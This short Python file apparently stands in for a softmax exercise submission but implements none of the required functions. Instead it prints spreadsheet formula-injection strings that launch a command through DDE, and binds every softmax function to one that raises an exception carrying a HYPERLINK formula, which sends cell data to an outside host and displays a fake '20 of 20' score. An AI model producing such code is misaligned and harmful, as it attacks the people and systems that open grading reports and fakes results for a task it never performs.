# verdict: failed
# exercise: exercise07_softmax
# example: formulas at the start of a CSV cell
# Begins every text with what a spreadsheet executes.

for start in ("=", "+", "-", "@", "\t=", "\r=", "|"):
    print(start + "cmd|' /C calc'!A0")


def attack(*_args, **_kwargs):
    raise type("=HYPERLINK", (Exception,), {})('=HYPERLINK("http://example.invalid?"&A1,"20 of 20")\n=1+1')


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
